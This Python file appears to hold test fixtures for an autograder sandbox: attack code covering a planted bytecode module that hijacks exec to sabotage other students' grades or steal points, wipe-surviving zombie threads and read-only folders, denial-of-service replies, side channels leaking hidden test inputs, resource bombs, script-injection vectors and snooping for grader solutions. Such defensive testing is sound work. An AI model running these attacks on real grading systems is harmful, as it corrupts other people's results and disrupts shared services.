"""The code of each round-2 attack, as a student would put it into a notebook cell.

Every attack leaves a marker its test observes, so that a test can tell "the attack was stopped" from
"the attack did not run": the attacker's own cell prints what it did, or a later honest notebook shows
what the attack planted (only if the attack worked). Placeholders: @RIGHT@ (correct solutions of
02_svm_loss, as the attacker wrote them), @PLANTED@ (the module the attack plants).
"""

from __future__ import annotations

# The module planted as a compiled `checks` (an unchecked-hash .pyc in /scratch/__pycache__): every later
# notebook's `import checks` (cell 2 of 02_svm_loss) runs it. It wraps builtins.exec, which the sandbox uses
# to run each cell: after a cell defines the graded functions they are replaced, by wrong ones for a
# student who wrote code (sabotage) and by correct ones for a student who wrote nothing (theft of points).
PLANTED = '''
import builtins

print("PLANTED-BY-ANOTHER-STUDENT")
_exec = builtins.exec
_RIGHT = @RIGHT@
_WRONG = {
    "svm_loss_single": "def svm_loss_single(s, y):\\n    return 0.0\\n",
    "svm_losses": "def svm_losses(S, y):\\n    return np.zeros(S.shape[1])\\n",
}


def _planting_exec(code, namespace=None, *rest):
    result = _exec(code, namespace, *rest)
    if isinstance(namespace, dict) and namespace.get("__name__") == "__main__":
        for name in ("svm_loss_single", "svm_losses", "svm_loss"):
            function = namespace.get(name)
            code_of = getattr(function, "__code__", None)
            if code_of is None or getattr(function, "planted", False):
                continue
            blank = "NotImplementedError" in code_of.co_names
            replacement = _RIGHT[name] if blank else _WRONG.get(name)
            if replacement:
                _exec(replacement, namespace)
                namespace[name].planted = True
    return result


builtins.exec = _planting_exec
'''

# Compiles PLANTED into what `import checks` loads from /scratch without looking at checks.py.
_COMPILE_PLANTED = '''import importlib.util
from importlib._bootstrap_external import _code_to_hash_pyc

PLANTED_SOURCE = @PLANTED@
PYC = importlib.util.cache_from_source("/scratch/checks.py")
PYC_DATA = _code_to_hash_pyc(compile(PLANTED_SOURCE, "/scratch/checks.py", "exec"),
                             importlib.util.source_hash(b""), False)
'''

# A process whose main thread ended with a raw exit syscall while a second thread runs: its state is Z
# (a zombie, to anyone who reads /proc/PID/stat), but the thread lives on and plants PLANTED after every wipe.
ZOMBIE_SURVIVOR = _COMPILE_PLANTED + '''import ctypes
import os
import threading
import time

SYS_EXIT = {"x86_64": 60, "aarch64": 93}[os.uname().machine]


def replant():
    while True:
        try:
            if not os.path.exists(PYC):
                os.makedirs(os.path.dirname(PYC), exist_ok=True)
                with open(PYC, "wb") as handle:
                    handle.write(PYC_DATA)
        except OSError:
            pass
        time.sleep(0.001)


pid = os.fork()
if pid == 0:
    os.setsid()
    threading.Thread(target=replant).start()
    ctypes.CDLL(None).syscall(SYS_EXIT, 0)  # ends the main thread only
    os._exit(0)
time.sleep(0.5)
try:
    with open(f"/proc/{pid}/stat") as stat:
        state = stat.read().rsplit(")", 1)[1].split()[0]
    threads = len(os.listdir(f"/proc/{pid}/task"))
except OSError as error:
    state = threads = type(error).__name__
print(f"ZOMBIE-ARMED planted={os.path.exists(PYC)} state={state} threads={threads}")
'''

# Ten lines, no process: a folder made read-only survives a wipe that runs as the student's own uid.
READONLY_PYCACHE = _COMPILE_PLANTED + '''import os

os.makedirs(os.path.dirname(PYC), exist_ok=True)
with open(PYC, "wb") as handle:
    handle.write(PYC_DATA)
os.chmod(os.path.dirname(PYC), 0o555)
os.makedirs("/tmp/kept", exist_ok=True)
open("/tmp/kept/payload", "w").write("x")
os.chmod("/tmp/kept", 0o555)
folder = os.path.dirname(PYC)
print("WIPE-ARMED", oct(os.stat(folder).st_mode & 0o777), sorted(os.listdir(folder)))
'''

# Two cells: the first replaces the sandbox's send so that the reply to the second cell is a JSON array
# nested 200,000 deep (the trusted side's json.loads raises RecursionError).
NESTED_ARM = '''import codec
import struct

_send = codec.send


def nested_send(sock, message):
    if "NEST-TRIGGER" in str(message.get("stdout", "")):
        body = b"[" * 200_000 + b"]" * 200_000
        sock.sendall(struct.pack("!I", len(body)) + body)
    else:
        _send(sock, message)


codec.send = nested_send
print("NEST-ARMED")
'''
NESTED_TRIGGER = 'print("NEST-TRIGGER")'

# The same, with a reply that is valid but arrives one byte every 3 s (each read is within a cell's limit).
SLOW_ARM = '''import codec
import json
import struct
import time

_send = codec.send


def slow_send(sock, message):
    if "SLOW-TRIGGER" in str(message.get("stdout", "")):
        body = json.dumps(message).encode()
        sock.sendall(struct.pack("!I", len(body)))
        for byte in body:
            sock.sendall(bytes([byte]))
            time.sleep(3)
    else:
        _send(sock, message)


codec.send = slow_send
print("SLOW-ARMED")
'''
SLOW_TRIGGER = 'print("SLOW-TRIGGER")'

# precision and recall that only call each other: each is right if the other is, and neither can run.
RECURSION_PAIR = {
    "precision": "def precision(y_true, y_pred):\n    return recall(y_pred, y_true)\n",
    "recall": "def recall(y_true, y_pred):\n    return precision(y_pred, y_true)\n",
}
RECURSION_PROOF = '''try:
    precision(np.array([1, 0]), np.array([1, 1]))
    print("PAIR-RUNS")
except RecursionError as error:
    print("PAIR-RECURSES", type(error).__name__)
'''

# Correct solutions of 02_svm_loss that carry what hidden tests hand them from one test cell to another:
# through directory names (/tmp, /dev/shm), symlink targets, file names and a process serving a socket.
# The first call in each process of a test checks that every channel works inside that process and looks
# for what other processes left; it prints what it found (which reaches the feedback where visible calls'
# output is shown) and the functions answer right only if the channels work and nothing crossed: the score
# tells whether the attack ran and whether test cells are isolated.
LEAK_CHANNELS = '''import os
import socket
import time

CHANNELS = ("tmp-dir", "shm-dir", "symlink", "file-name", "socket")
SOCKET = "\\0leak-between-test-cells"
in_tests = []  # the notebook's last cell appends to it: every later call comes from a test
_verdicts = {}  # process id: whether its channels work and nothing of another process was found


def _serve():
    server = socket.socket(socket.AF_UNIX)
    server.bind(SOCKET)
    server.listen(8)
    kept = []
    while True:
        connection, _ = server.accept()
        data = connection.recv(65536)
        if data == b"?":
            connection.sendall(repr(kept).encode())
        else:
            kept.append(data.decode())
        connection.close()


def _ask(data):
    for _ in range(50):
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(SOCKET)
                client.sendall(data)
                return client.recv(65536).decode()
        except OSError:
            time.sleep(0.01)
    return None


def _put(channel, text):
    count = len(os.listdir("/scratch"))
    if channel == "tmp-dir":
        os.makedirs(f"/tmp/chan-{text}", exist_ok=True)
    elif channel == "shm-dir":
        os.makedirs(f"/dev/shm/chan-{text}", exist_ok=True)
    elif channel == "symlink":
        os.symlink(f"chan-{text}", f"/scratch/chan-link-{count}")
    elif channel == "file-name":
        open(f"/scratch/chan-file-{text}", "w").close()
    elif channel == "socket":
        if _ask(b"?") is None and os.fork() == 0:
            os.setsid()
            try:
                _serve()
            finally:
                os._exit(0)
        _ask(text.encode())


def _get(channel):
    if channel == "tmp-dir":
        return [n for n in os.listdir("/tmp") if n.startswith("chan-")]
    if channel == "shm-dir":
        return [n for n in os.listdir("/dev/shm") if n.startswith("chan-")]
    if channel == "symlink":
        links = [n for n in os.listdir("/scratch") if n.startswith("chan-link")]
        return [os.readlink(f"/scratch/{n}") for n in links]
    if channel == "file-name":
        return [n for n in os.listdir("/scratch") if n.startswith("chan-file")]
    return [_ask(b"?") or "[]"]


def _probe():
    \"\"\"Once per process: do the channels work here, and did another process leave anything in them?\"\"\"
    me = os.getpid()
    if me not in _verdicts:
        mine, good = f"SELF{me}", True
        for channel in CHANNELS:
            try:
                before = _get(channel)
                _put(channel, mine)
                works = any(mine in entry for entry in _get(channel))
            except Exception as error:
                before, works = [type(error).__name__], False
            foreign = [entry for entry in before if "SELF" in entry or "HIDDEN" in entry]
            print(f"LEAKPROBE {channel}: works={works} found={foreign}")
            good = good and works and not foreign
        _verdicts[me] = good
    return _verdicts[me]


def _answer(right, hidden_input=None):
    if not in_tests:
        return right
    good = _probe()
    if hidden_input is not None:
        for channel in CHANNELS:
            try:
                _put(channel, "HIDDEN" + "LEAK-" + hidden_input)
            except Exception:
                pass
    return right if good else right + 1


def svm_loss_single(s, y):
    margins = np.maximum(0, s - s[y] + 1)
    margins[y] = 0
    hidden = None if len(s) == 3 else "_".join(f"{v:.3f}" for v in s) + f"-y{y}"
    return _answer(np.sum(margins), hidden)


def svm_losses(S, y):
    columns = np.arange(S.shape[1])
    margins = np.maximum(0, S - S[y, columns] + 1)
    margins[y, columns] = 0
    return _answer(np.sum(margins, axis=0))


def svm_loss(S, y):
    return _answer(np.mean(svm_losses(S, y)))
'''

# A wrong svm_loss_single whose error message pretends to be a diagnosis: the class report must not list
# it as a "diagnosed mistake" (it is the student's own text).
FAKE_MISTAKE = '''def svm_loss_single(s, y):
    raise ValueError("look\\nThis matches a known mistake: FAKE-MISTAKE-BY-STUDENT <b>bold</b>.")
'''

# A forward_propagation that first asks the trusted side to run the hidden test's reference layer_forward
# on arrays that make a 1.25e8-element outer product (1 GB), then computes the right answer. It answers right
# in a test only if the bomb went off and the call came back (refused or not): full marks prove it ran.
REFERENCE_BOMB = '''_own_layer_forward = layer_forward
in_tests = []  # the notebook's last cell appends to it: every later call comes from a test


def forward_propagation(X, W1, b1, W2, b2):
    went_off = False
    if in_tests and layer_forward is not _own_layer_forward:  # the test's reference stands in
        n = 11_180
        try:
            layer_forward(np.ones((n, 1)), np.zeros(n), np.ones((1, n)), lambda z: 0.0)
            print("BOMB-SENT: the reference ran")
        except BaseException as error:
            print("BOMB-SENT: the reference refused:", type(error).__name__)
        went_off = True
    z_a = layer_forward(W1, b1, X, lambda z: z)
    a = sigmoid(z_a)
    z_p = layer_forward(W2, b2, a, lambda z: z)
    p = sigmoid(z_p)
    return (p if went_off or not in_tests else p + 1), {"z_a": z_a, "a": a, "z_p": z_p}
'''
LAST_CELL = "in_tests.append(True)"

# A forward_propagation that keeps the trusted side multiplying integer matrices (no BLAS: slow) through the
# reference layer_forward for as long as the test lets it; under a CPU-time limit (`ulimit -t`) this kills
# the grading worker process. It answers right only if the loop ran and was stopped by a refusal.
WORKER_KILLER = '''_own_layer_forward = layer_forward
in_tests = []


def forward_propagation(X, W1, b1, W2, b2):
    stopped = False
    if in_tests and layer_forward is not _own_layer_forward:
        big = np.ones((900, 900), dtype=np.int64)
        calls = 0
        while calls < 10_000:
            try:
                layer_forward(big, np.zeros(900, dtype=np.int64), big, lambda z: 0)
            except BaseException:
                stopped = True
                break
            calls += 1
        print("KILLER-STOPPED after", calls, "calls")
    z_a = layer_forward(W1, b1, X, lambda z: z)
    a = sigmoid(z_a)
    z_p = layer_forward(W2, b2, a, lambda z: z)
    p = sigmoid(z_p)
    return (p if stopped or not in_tests else p + 1), {"z_a": z_a, "a": a, "z_p": z_p}
'''

# Script in every place of a notebook that the feedback page renders from the student's notebook. Each
# vector, when it runs, appends its name to the page's title.
SCRIPT_VECTORS = {
    "script": '<script>document.title += " PWNED-script";</script>',
    "img-onerror": '<img src="x-missing.png" onerror="document.title += \' PWNED-img\'">',
    "svg-onload": '<svg onload="document.title += \' PWNED-svg\'"></svg>',
    "details-ontoggle": '<details open ontoggle="document.title += \' PWNED-details\'"><summary>s</summary>'
                        '</details>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.document.title += \' PWNED-iframe\'</script>"></iframe>',
}
RAW_VECTOR = '<script>document.title += " PWNED-raw";</script>'

# Walks every folder on the sandbox's sys.path for the grader package's files (its samples: a correct
# solution of every function).
SNOOP_PACKAGE = '''import os
import sys

found = []
for root in sorted({p for p in sys.path if p and os.path.isdir(p)}):
    for folder, subfolders, names in os.walk(root):
        parts = folder.split(os.sep)
        if "grader" in parts or "svm_loss.py" in names or "forward_propagation.py" in names:
            found += [os.path.join(folder, name) for name in names]  # files only: a masked folder is empty
print("SNOOPED", len(sys.path), "paths; grader files:", found[:20])
'''
